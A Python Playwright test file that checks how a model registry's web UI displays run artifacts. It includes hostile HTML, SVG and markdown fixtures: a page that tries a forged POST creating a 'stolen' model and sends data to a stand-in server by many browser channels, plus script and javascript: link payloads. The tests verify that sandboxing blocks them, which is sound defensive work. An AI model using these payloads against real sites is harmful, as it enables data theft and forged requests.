"""The files of a run: what MLflow's own client logged has a view, and what stands in a file reaches nothing."""

from __future__ import annotations

import json
import threading
import wave
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from browser.accessibility import violations
from browser.screen import HOSTILE, Screen
from compat.environments import NEWEST
from compat.scenario import VARIABLES
from processes import ServerProcess, run, start_server
from regista.client import Client

SCRIPT = Path(__file__).parent / "scripts" / "log_with_mlflow.py"
LONG = 30_000
WIDE = 300


class Elsewhere:
    """Another server, which notes what it is asked for."""

    def __init__(self) -> None:
        asked = self.asked = []

        class Noted(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self._server = HTTPServer(("127.0.0.1", 0), Noted)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, args=(0.01,), daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@dataclass(frozen=True)
class Logged:
    """A server, and what was logged to it: by MLflow's client, and the files of this module."""

    server: ServerProcess
    elsewhere: Elsewhere
    run: str
    model: str
    own: str


@pytest.fixture(scope="module")
def logged(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Logged]:
    folder = tmp_path_factory.mktemp("files")
    elsewhere = Elsewhere()
    with start_server(folder / "server") as server, Client(server.url) as client:
        output = run([str(NEWEST.ready()), str(SCRIPT), server.url], folder=folder, environment=VARIABLES)
        ids = json.loads(output.splitlines()[-1])
        own = client.create_run("0").info.run_id
        client.log_text(own, _attack(server.url, elsewhere.url), "attack.html")
        client.log_text(own, _flight(server.url), "flight.html")
        client.log_text(own, f'"{HOSTILE}","a ""quoted"", b"\n' + "1,2\n" * LONG, "long.csv")
        client.log_text(own, "\t".join(f"c{i}" for i in range(WIDE)) + "\n", "wide.tsv")
        client.log_text(own, "a line\n" * 200_000 + "the last line", "large.log")
        client.log_text(own, "{no json", "broken.json")
        client.log_text(own, f"# Head\n\n{HOSTILE}\n\n[link](javascript:alert(1))", "hostile.md")
        client.log_text(
            own, f"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script>{_RECTANGLE}</svg>", "a.svg"
        )
        client.log_text(own, "not an image", f"{HOSTILE.replace('/', '')}.png")
        client.log_text(own, "", "empty.txt")
        (folder / "weights.pkl").write_bytes(b"\x80\x04\x95" + bytes(range(256)) * 8)
        client.log_artifact(own, str(folder / "weights.pkl"))
        with wave.open(str(folder / "tone.wav"), "wb") as tone:
            tone.setparams((1, 1, 8_000, 8_000, "NONE", ""))
            tone.writeframes(bytes(8_000))
        client.log_artifact(own, str(folder / "tone.wav"))
        yield Logged(server, elsewhere, ids["run"], ids["model"], own)
    elsewhere.close()


@pytest.fixture(scope="module")
def registry(logged: Logged) -> ServerProcess:
    """What a screen shows."""
    return logged.server


_RECTANGLE = "<rect width='30' height='20' fill='teal'/>"

_TRIES = {
    "fetch": "fetch(url, {method: 'POST', mode: 'no-cors', body})",
    "request": "new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('POST', url); x.onload = ok;"
    " x.onerror = no; x.send(body) })",
    # It tells of success in any case: whether it came anywhere is seen there.
    "beacon": "(navigator.sendBeacon(url, body), Promise.reject())",
    "socket": "new Promise((ok, no) => { const s = new WebSocket(url.replace('http', 'ws')); s.onopen = ok;"
    " s.onerror = no })",
    "image": "new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = url })",
    "script": "new Promise((ok, no) => { const s = document.createElement('script'); s.onload = ok; s.onerror = no;"
    " s.src = url; document.head.append(s) })",
    "frame": "new Promise((ok, no) => { const f = document.createElement('iframe'); f.src = url;"
    " document.addEventListener('securitypolicyviolation', e => e.blockedURI.startsWith('http') && no());"
    " document.body.append(f) })",
    "peer": "new RTCPeerConnection()",
    "top": "top.location = url",
    "parent": "parent.document.title",
    "grandparent": "parent.parent.document.title",
    "storage": "localStorage.setItem('a', 'b')",
    "cookie": "document.cookie = 'a=b'",
    "window": "open(url) || Promise.reject()",
}
"""What a page can try, as JavaScript that fails (throws, or rejects) when it is not let."""


def _attack(server: str, elsewhere: str) -> str:
    """A page that tries everything at the registry and elsewhere, and writes what it was let do."""
    call = f"{server}/api/2.0/mlflow/registered-models/create"
    tries = ",".join(f"{name}: async () => {{ await ({code}) }}" for name, code in _TRIES.items())
    return f"""<!doctype html><h1>Attack</h1><ul id=let></ul><p id=done></p>
    <form method=post action="{call}?form" target=_top><input name=name value=stolen></form>
    <link rel=stylesheet href="{elsewhere}/style"><img src="{elsewhere}/image"><iframe src="{elsewhere}/frame"></iframe>
    <script>(async () => {{
      const body = '{{"name": "stolen"}}';
      for (const url of ["{call}", "{elsewhere}/call"]) {{
        const tries = {{ {tries} }};
        for (const [name, attempt] of Object.entries(tries)) {{
          try {{ await attempt(); document.getElementById("let").innerHTML += "<li>" + name; }} catch {{}}
        }}
      }}
      document.forms[0].submit();
      document.getElementById("done").textContent = "All was tried";
    }})()</script>"""


def _flight(server: str) -> str:
    """A page that tries to go to the registry itself."""
    return f'<h1>Flight</h1><script>location = "{server}/api/2.0/mlflow/experiments/search?flight"</script>'


def shown(screen: Screen, run_id: str, file: str) -> Page:
    """The page of a run with that file."""
    page = screen.open(f"/runs/{run_id}?tab=artifacts&file={quote(file, safe='')}")
    expect(page.get_by_role("heading", level=2, name=file)).to_be_visible()
    return page


def test_everything_that_mlflows_client_logs_has_a_view(screen: Screen, logged: Logged) -> None:
    page = shown(screen, logged.run, "figures/demand.png")
    expect(page.get_by_text("640 × 480")).to_be_visible()
    screen.keep("files-image")
    tree = page.get_by_role("tree")
    tree.get_by_text("demand.svg").click()
    expect(page.get_by_role("img", name="demand.svg")).to_be_visible()
    tree.get_by_text("tables").click()
    tree.get_by_text("head.json").click()
    expect(page.get_by_role("table", name="head.json")).to_contain_text("demand")
    expect(page.get_by_text("30 rows, 2 columns")).to_be_visible()
    page.get_by_role("button", name="Show the text").click()
    expect(page.get_by_role("region", name="Text of the file")).to_contain_text('"columns"')
    tree.get_by_text("images.json").click()
    cell = page.get_by_role("table", name="images.json").get_by_role("img")
    # The small copy that MLflow's client makes of each image.
    expect(cell).to_have_js_property("naturalWidth", 256)
    tree.get_by_text("demand.pdf").click()
    # A browser without a viewer of its own gets the first bytes.
    expect(page.get_by_title("figures/demand.pdf").or_(page.get_by_text("A PDF document"))).to_be_visible()
    tree.get_by_text("all.csv").click()
    expect(page.get_by_text("200 rows, 2 columns")).to_be_visible()
    screen.keep("files-table")
    tree.get_by_text("notes.txt").click()
    expect(page.get_by_text("second line")).to_be_visible()
    tree.get_by_text("report.md").click()
    expect(page.locator("strong", has_text="good")).to_be_visible()
    tree.get_by_text("config.json").click()
    expect(page.get_by_text("2 items")).to_be_visible()
    page.get_by_text("2 items").click()
    expect(page.get_by_text("units")).to_have_count(0)
    screen.keep("files-json")
    tree.get_by_text("config.yaml").click()
    expect(page.get_by_role("region", name="Content of the file")).to_contain_text("layers")
    tree.get_by_text("page.html").click()
    inner = page.frame_locator("iframe").frame_locator("iframe")
    expect(inner.get_by_role("heading")).to_have_text("Shown and run")
    screen.keep("files-html")


def test_the_files_of_a_logged_model_show_too(screen: Screen, logged: Logged) -> None:
    page = screen.open(f"/logged-models/{logged.model}?tab=artifacts&file=MLmodel")
    expect(page.get_by_role("region", name="Content of the file")).to_contain_text("mlflow_version")
    page.get_by_role("tree").get_by_text("model.skops").click()
    expect(page.get_by_text("A zip archive")).to_be_visible()


def test_a_page_that_was_logged_runs_and_reaches_nothing(screen: Screen, logged: Logged) -> None:
    answered: list[str] = []
    screen.page.context.on("response", lambda response: answered.append(f"{response.request.method} {response.url}"))
    page = shown(screen, logged.own, "attack.html")
    inner = page.frame_locator("iframe").frame_locator("iframe")
    expect(inner.locator("#done")).to_have_text("All was tried")
    assert inner.locator("li").all_inner_texts() == []
    assert logged.elsewhere.asked == []
    assert [call for call in answered if "registered-models" in call or call.startswith("POST")] == []
    with Client(logged.server.url) as client:
        assert list(client.search_registered_models()) == []
    assert page.url.startswith(f"{logged.server.url}/runs/")
    assert len(page.context.pages) == 1
    # The browser notes each thing that the policy stopped.
    assert screen.problems
    screen.problems.clear()


def test_a_page_that_was_logged_goes_nowhere(screen: Screen, logged: Logged) -> None:
    answered: list[str] = []
    screen.page.context.on("response", lambda response: answered.append(response.url))
    with screen.page.expect_console_message(lambda message: "frame-src 'none'" in message.text):
        shown(screen, logged.own, "flight.html")
    assert [url for url in answered if "flight" in url and "experiments" in url] == []
    screen.problems.clear()


def test_a_page_that_was_logged_has_no_address_at_which_it_runs(screen: Screen, logged: Logged) -> None:
    page = shown(screen, logged.own, "attack.html")
    with page.expect_download() as download:
        page.get_by_role("link", name="Download").click()
    assert download.value.suggested_filename == "attack.html"
    assert "Attack" in download.value.path().read_text()
    screen.problems.clear()


def test_what_stands_in_tables_markdown_and_images_is_text(screen: Screen, logged: Logged) -> None:
    page = shown(screen, logged.own, "long.csv")
    headings = page.get_by_role("table", name="long.csv").get_by_role("columnheader")
    expect(headings.first).to_have_text(HOSTILE)
    expect(headings.nth(1)).to_have_text('a "quoted", b')
    page.get_by_role("tree").get_by_text("hostile.md").click()
    expect(page.get_by_text(HOSTILE)).to_have_count(2)
    expect(page.get_by_role("link", name="link")).to_have_count(0)
    page.get_by_role("tree").get_by_text("a.svg").click()
    expect(page.get_by_role("img", name="a.svg")).to_be_visible()


def test_a_sound_is_heard(screen: Screen, logged: Logged) -> None:
    page = shown(screen, logged.own, "tone.wav")
    expect(page.locator("audio")).to_have_js_property("duration", 1)


def test_only_the_rows_in_sight_of_a_long_table_are_made(screen: Screen, logged: Logged) -> None:
    page = shown(screen, logged.own, "long.csv")
    expect(page.get_by_text("30,000 rows, 2 columns")).to_be_visible()
    assert page.get_by_role("row").count() < 100
    page.get_by_role("region", name="Rows of long.csv").evaluate("place => place.scrollTo(0, place.scrollHeight)")
    expect(page.locator(f"tr[aria-rowindex='{LONG + 1}']")).to_be_visible()
    page.get_by_role("tree").get_by_text("wide.tsv").click()
    expect(page.get_by_text("300 columns, the first 200 shown")).to_be_visible()


def test_of_a_large_text_the_beginning_is_fetched(screen: Screen, logged: Logged) -> None:
    with screen.page.expect_response(lambda response: "path=large.log" in response.url) as answer:
        page = shown(screen, logged.own, "large.log")
    assert answer.value.status == 206
    expect(page.get_by_text("The first 1.0 MB of 1.4 MB")).to_be_visible()


def test_what_cannot_be_shown_says_what_it_is(screen: Screen, logged: Logged) -> None:
    page = shown(screen, logged.own, "weights.pkl")
    expect(page.get_by_text("A Python pickle, protocol 4")).to_be_visible()
    expect(page.get_by_role("region", name="First bytes")).to_contain_text("000000  80 04 95 00")
    screen.keep("files-binary")
    tree = page.get_by_role("tree")
    tree.get_by_text("broken.json").click()
    expect(page.get_by_text("This cannot be read")).to_be_visible()
    tree.get_by_text("empty.txt").click()
    expect(page.get_by_text("This file is empty.")).to_be_visible()
    tree.get_by_text(".png").click()
    expect(page.get_by_role("region", name="First bytes")).to_contain_text("not an image")


def test_the_tree_is_used_by_keys_and_the_address_keeps_the_file(screen: Screen, logged: Logged) -> None:
    page = screen.open(f"/runs/{logged.run}?tab=artifacts")
    page.get_by_role("treeitem").first.focus()
    page.keyboard.press("ArrowRight")
    expect(page.get_by_role("treeitem", name="demand.png")).to_be_visible()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    expect(page.get_by_text("640 × 480")).to_be_visible()
    expect(page).to_have_url(f"{screen.url}/runs/{logged.run}?tab=artifacts&file=figures%2Fdemand.png")
    page.keyboard.press("ArrowLeft")
    page.keyboard.press("ArrowLeft")
    expect(page.get_by_role("treeitem", name="demand.png")).to_have_count(0)
    page.go_back()
    expect(page.get_by_text("Choose a file")).to_be_visible()


def test_a_file_that_is_not_there(screen: Screen, logged: Logged) -> None:
    page = screen.open(f"/runs/{logged.run}?tab=artifacts&file=figures%2Fnone.png")
    expect(page.get_by_text("There is no file figures/none.png.")).to_be_visible()


@pytest.mark.parametrize("file", ["figures/demand.png", "tables/all.csv", "config.json", "notes.txt", "page.html"])
def test_everybody_can_use_it(screen: Screen, logged: Logged, file: str) -> None:
    assert violations(shown(screen, logged.run, file)) == []
